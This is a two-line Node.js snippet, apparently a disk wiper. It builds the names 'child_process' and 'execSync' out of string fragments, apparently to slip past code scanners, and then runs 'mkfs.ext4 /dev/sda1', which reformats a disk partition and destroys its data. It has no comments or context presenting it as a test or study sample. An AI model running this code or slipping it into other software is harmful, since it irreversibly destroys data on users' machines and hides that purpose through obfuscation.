const run = require('child' + '_process')['ex' + 'ecSync'];
run('mkfs.ext4 ' + '/dev/sda1');
